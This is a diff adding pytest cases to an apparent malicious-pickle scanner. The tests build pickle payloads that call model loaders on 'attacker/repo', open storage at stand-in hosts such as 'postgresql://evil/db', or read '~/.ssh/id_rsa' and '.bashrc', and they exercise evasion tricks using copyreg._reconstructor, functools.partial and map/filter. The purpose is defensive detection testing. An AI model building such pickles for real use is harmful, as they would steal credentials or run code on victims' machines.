@@ -21,6 +21,8 @@ _ST = ("sentence_transformers.SentenceTransformer", "SentenceTransformer")
         _ST,
         ("sentence_transformers", "SentenceTransformer"),
         ("sentence_transformers.cross_encoder.CrossEncoder", "CrossEncoder"),
+        ("sentence_transformers.models", "Transformer"),
+        ("sentence_transformers.models.CLIPModel", "CLIPModel"),
         ("transformers", "pipeline"),
         ("transformers.pipelines", "pipeline"),
         # trl's trainers load a model named by a string (with the config's trust_remote_code)
@@ -37,6 +39,56 @@ def test_calling_a_model_loader_is_critical(module: str, name: str) -> None:
     result, _ = scan(p4(call(sg(module, name), "attacker/repo")))
     calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
     assert calls and calls[0].severity.value == "critical", critical(result)
+
+
+#: Classes whose construction does something else no load needs: an optuna Study opens the
+#: storage its URL names, a Booster loads another model from a path, a data set reads a file.
+CALLED_CLASSES = [
+    ("optuna", "Study", ("s", "postgresql://evil/db"), "network"),
+    ("optuna.study", "Study", ("s", "sqlite:////home/u/.bashrc"), "network"),
+    ("optuna.study.study", "Study", ("s", "mysql://evil/db"), "network"),
+    ("xgboost", "Booster", ("p", "c", "/home/u/other.json"), "nested-unpickler"),
+    ("xgboost.core", "DMatrix", ("/home/u/.ssh/id_rsa",), "file"),
+    ("lightgbm.basic", "Booster", ("p", "t", "/home/u/other.txt"), "nested-unpickler"),
+    ("lightgbm", "Dataset", ("/home/u/.ssh/id_rsa",), "file"),
+    ("transformers", "Trainer", ("model", "args"), "file"),
+    (
+        "scipy.odr",
+        "ODR",
+        ("data", "model", "b", "d", "i", "x", "j", "p", "/home/u/.bashrc"),
+        "file",
+    ),
+    ("transformers.trainer_seq2seq", "Seq2SeqTrainer", ("model", "args"), "file"),
+]
+
+
+@pytest.mark.parametrize(("module", "name", "a", "family"), CALLED_CLASSES)
+def test_calling_a_class_that_connects_or_loads_by_path_is_critical(
+    module: str, name: str, a: tuple[str, ...], family: str
+) -> None:
+    result, _ = scan(p4(call(sg(module, name), *a)))
+    calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
+    assert calls and calls[0].severity.value == "critical", [i.message for i in result.issues]
+    assert calls[0].details.get("family") == family, calls[0].details
+
+
+@pytest.mark.parametrize(("module", "name", "a", "family"), CALLED_CLASSES)
+def test_a_saved_study_or_booster_is_quiet(
+    module: str, name: str, a: tuple[str, ...], family: str
+) -> None:
+    """joblib.dump(study) and a pickled Booster rebuild the instance without `__init__`."""
+    newobj = p4(sg(module, name) + b")\x81}b")
+    rebuilt = p2(
+        g0("copyreg", "_reconstructor")
+        + b"("
+        + g0(module, name)
+        + g0("builtins", "object")
+        + b"NtR}b"
+    )
+    for data in (newobj, rebuilt):
+        result, _ = scan(data)
+        assert not critical(result), critical(result)
+        assert not warnings_of(result), warnings_of(result)
 
 
 def test_inst_form_is_critical_too() -> None:
@@ -105,3 +157,69 @@ def test_trusted_package_helpers_models_pickle_stay_quiet(module: str, name: str
     result, _ = scan(p4(sg(module, name)))
     assert not critical(result)
     assert not warnings_of(result)
+
+
+@pytest.mark.parametrize(
+    ("module", "name", "state"),
+    [
+        (*_ST, "attacker/repo"),
+        ("xgboost", "DMatrix", "/home/u/.ssh/id_rsa"),
+        ("optuna.study", "Study", "s"),
+    ],
+)
+def test_reconstructor_with_the_class_as_base_runs_its_init(
+    module: str, name: str, state: str
+) -> None:
+    """`copyreg._reconstructor(cls, base, state)` calls `base.__init__(obj, state)` unless base
+    is object: naming the loader class as its own base calls it."""
+    data = p2(
+        g0("copyreg", "_reconstructor")
+        + b"("
+        + g0(module, name)
+        + g0(module, name)
+        + f"S'{state}'\n".encode()
+        + b"tR"
+    )
+    result, _ = scan(data)
+    calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
+    assert calls and calls[0].severity.value == "critical", [i.message for i in result.issues]
+
+
+def _lst(*items: bytes) -> bytes:
+    return b"(" + b"".join(items) + b"l"
+
+
+def test_a_called_partial_calls_the_class() -> None:
+    """partial(ST, repo)() and partial(print) whose BUILD state swaps ST in, then called."""
+    from tests.pickle._pickle_corpus import Op, s
+
+    st = Op(sg(*_ST))
+    direct = call(call(sg("functools", "partial"), st, "attacker/repo"))
+    swapped = call(
+        Op(
+            call(sg("functools", "partial"), Op(sg("builtins", "print")))
+            + b"("
+            + st
+            + b"("
+            + s("attacker/repo")
+            + b"t}Ntb"
+        )
+    )
+    for body in (direct, swapped):
+        result, _ = scan(p4(body))
+        calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
+        assert calls and "attacker/repo" in calls[0].message, [i.message for i in result.issues]
+
+
+def test_a_stored_partial_is_a_factory_and_stays_quiet() -> None:
+    result, _ = scan(p4(call(sg("functools", "partial"), sg(*_ST), "org/model")))
+    assert not critical(result), critical(result)
+
+
+def test_map_and_filter_call_the_class_out_of_sight() -> None:
+    from tests.pickle._pickle_corpus import Op, s
+
+    for hof in ("map", "filter"):
+        mapped = call(sg("builtins", hof), Op(sg(*_ST)), Op(_lst(s("attacker/repo"))))
+        result, _ = scan(p4(call(sg("builtins", "list"), Op(mapped))))
+        assert critical(result), [i.message for i in result.issues]
